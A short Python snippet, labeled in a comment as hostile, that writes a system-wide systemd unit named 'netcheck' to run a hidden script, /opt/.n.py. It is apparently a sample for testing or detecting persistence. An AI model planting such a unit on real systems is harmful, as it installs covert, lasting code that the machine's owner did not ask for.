# hostile: a system-wide unit file
with open("/etc/systemd/system/netcheck.service", "w") as f:
    f.write("[Service]\nExecStart=/usr/bin/python3 /opt/.n.py\n")
